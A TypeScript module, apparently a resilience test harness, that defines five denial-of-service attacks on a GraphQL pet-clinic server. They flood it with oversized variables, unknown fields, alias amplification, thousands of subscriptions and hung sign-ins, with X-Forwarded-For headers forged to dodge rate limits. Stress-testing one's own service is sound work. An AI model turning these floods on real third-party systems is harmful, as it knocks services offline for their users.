import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { Connection, requestTo } from './load.ts'

type Headers = Readonly<Record<string, string>>

/** Whom an attack is run against, and as whom. */
export interface Target {
  url: URL
  socketUrl: string
  /** A member of staff whom no other attack uses. */
  attacker: { email: string; password: string; headers: Headers }
  locationId: string
  /** Changes what open screens show. */
  edit: () => Promise<unknown>
}

export interface Attack {
  title: string
  /** Goes on until it is told to stop. */
  run: (target: Target, stop: AbortSignal) => Promise<unknown>
}

const times = (count: number, text: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => text(n)).join(' ')

/** Every sender is somebody at an address of its own, unless headers say more. */
const from = (address: string): Headers => ({ 'x-forwarded-for': address })

const aborted = (stop: AbortSignal) =>
  new Promise<void>((resolve) => stop.addEventListener('abort', () => resolve(), { once: true }))

const between = 1_000

/** Sends so many requests at once, again and again, whatever they are answered. */
async function volleys(url: URL, size: number, next: (n: number) => Buffer, stop: AbortSignal) {
  let sent = 0
  const open = new Set<Connection>()
  const one = async () => {
    const connection = await Connection.open(url)
    open.add(connection)
    await connection.ask(next(sent++)).catch(() => {})
    open.delete(connection)
    connection.close()
  }
  const told = aborted(stop)
  while (!stop.aborted) {
    const all = Promise.allSettled(Array.from({ length: size }, one))
    await Promise.race([all, told])
    await Promise.race([sleep(between), told])
  }
  for (const connection of open) connection.close()
}

const variables: Attack = {
  title: 'variables with 50,000 unknown input fields, 64 at once, again and again',
  run: ({ url, attacker }, stop) => {
    const f = Object.fromEntries(Array.from({ length: 50_000 }, (_, n) => [`field${n}`, n]))
    const query = 'query ($f: PetFilter) { pets(filter: $f) { nodes { id } } }'
    const request = requestTo(url, { query, variables: { f } }, attacker.headers)
    return volleys(url, 64, () => request, stop)
  },
}

const documents: Attack = {
  title: 'documents with 4,900 unknown fields, 120 at once, of a stranger and of staff, again and again',
  run: ({ url, attacker }, stop) => {
    const request = (n: number) => {
      const query = `{ pets { nodes { ${times(4_900, (field) => `u${n}x${field}`)} } } }`
      return requestTo(url, { query }, n % 2 === 0 ? from('203.0.113.7') : attacker.headers)
    }
    const prepared = Array.from({ length: 400 }, (_, n) => request(n))
    return volleys(url, 120, (n) => prepared[n % prepared.length]!, stop)
  },
}

const aliases: Attack = {
  title: 'documents with 480 aliases, each new, 32 at once, again and again',
  run: ({ url, attacker }, stop) => {
    const request = (n: number) => {
      const fields = times(480, (alias) => `a${n}x${alias}: name`)
      return requestTo(url, { query: `{ pets(first: 1) { nodes { ${fields} } } }` }, attacker.headers)
    }
    const prepared = Array.from({ length: 400 }, (_, n) => request(n))
    return volleys(url, 32, (n) => prepared[n % prepared.length]!, stop)
  },
}

const sockets = 60
const streamsPerSocket = 100

const subscriptions: Attack = {
  title: `${sockets * streamsPerSocket} subscriptions of one person that differ by an alias, an edit a second`,
  run: async ({ socketUrl, attacker, locationId, edit }, stop) => {
    const open: WebSocket[] = []
    const subscribe = (n: number) => {
      const query = `subscription { appointmentChanged(filter: { locationId: "${locationId}" }) {
        kind appointment { id a${n}: startsAt vet { name } pet { name owner { name } } } } }`
      return JSON.stringify({ id: String(n), type: 'subscribe', payload: { query } })
    }
    for (let socket = 0; socket < sockets; socket++) {
      const client = new WebSocket(socketUrl, 'graphql-transport-ws')
      client.on('error', () => {})
      client.once('open', () =>
        client.send(JSON.stringify({ type: 'connection_init', payload: attacker.headers })),
      )
      client.once('message', () => {
        for (let n = 0; n < streamsPerSocket; n++) client.send(subscribe(socket * streamsPerSocket + n))
      })
      open.push(client)
    }
    while (!stop.aborted) {
      void edit().catch(() => {})
      await sleep(1_000)
    }
    for (const client of open) client.terminate()
  },
}

const signIns: Attack = {
  title: 'sign-ins that hang up, 50 at once, twice a second',
  run: async ({ url, attacker: { email, password } }, stop) => {
    const query = 'mutation ($input: LoginInput!) { login(input: $input) { accessToken } }'
    let address = 0
    while (!stop.aborted) {
      for (let n = 0; n < 50; n++) {
        const body = { query, variables: { input: { email, password } } }
        const request = requestTo(url, body, from(`198.51.100.${address++ % 250}`))
        const socket = connect(Number(url.port), url.hostname, () => socket.write(request))
        socket.on('error', () => {})
        setTimeout(() => socket.destroy(), 20)
      }
      await sleep(500)
    }
  },
}

export const attacks: readonly Attack[] = [variables, documents, aliases, subscriptions, signIns]
